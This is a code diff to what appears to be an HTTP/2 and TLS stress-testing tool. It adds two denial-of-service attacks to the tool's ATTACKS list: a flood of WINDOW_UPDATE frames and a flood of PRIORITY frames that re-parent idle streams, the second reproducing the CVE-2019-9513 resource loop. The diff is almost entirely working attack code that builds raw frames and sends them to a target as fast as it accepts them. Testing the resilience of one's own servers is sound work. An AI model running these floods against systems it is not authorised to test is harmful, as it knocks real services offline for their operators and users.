@@ -696,6 +696,40 @@ def h2_ping_flood(t, opts):
     return h2_control_flood(t, opts, "ping")
 
 
+def h2_silent_flood(t, opts, kind, n=100000):
+    """n frames that need no answer, sent as fast as the server takes them:
+    WINDOW_UPDATE +1 on the connection (cheap to send, work to account), or PRIORITY
+    frames re-parenting 1000 idle streams over and over (CVE-2019-9513 "resource loop":
+    costly where a priority tree is kept)."""
+    c = H2Raw(t)
+    try:
+        c.run(0.3, until=lambda: c.settings is not None)
+        if kind == "window_update":
+            burst = window_update_frame(0, 1) * 1000
+        else:
+            burst = b"".join(frame(PRIORITY, 0, 2 * i + 1,
+                                   struct.pack(">IB", 2 * ((i + 7) % 1000) + 1, 200))
+                             for i in range(1000))
+        sent = 0
+        deadline = time.monotonic() + 10.0
+        while sent < n and time.monotonic() < deadline:
+            if not c.send(burst, timeout=10):
+                break
+            sent += 1000
+        c.wait_end(2.0)
+        return _conn_verdict(c, "%d %s frames sent" % (sent, kind.upper()))
+    finally:
+        c.close()
+
+
+def h2_window_update_flood(t, opts):
+    return h2_silent_flood(t, opts, "window_update")
+
+
+def h2_priority_flood(t, opts):
+    return h2_silent_flood(t, opts, "priority")
+
+
 def h2_zero_window(t, opts, conns=10, streams=10, hold=5.0):
     """conns connections with SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE, each
     with `streams` downloads of --big-path, held for `hold` seconds."""
@@ -1103,6 +1137,8 @@ ATTACKS = [
     ("h2_stream_flood", h2_stream_flood),
     ("h2_settings_flood", h2_settings_flood),
     ("h2_ping_flood", h2_ping_flood),
+    ("h2_window_update_flood", h2_window_update_flood),
+    ("h2_priority_flood", h2_priority_flood),
     ("h2_zero_window", h2_zero_window),
     ("tls_slowloris", tls_slowloris),
     ("tls_partial_hello", tls_partial_hello),
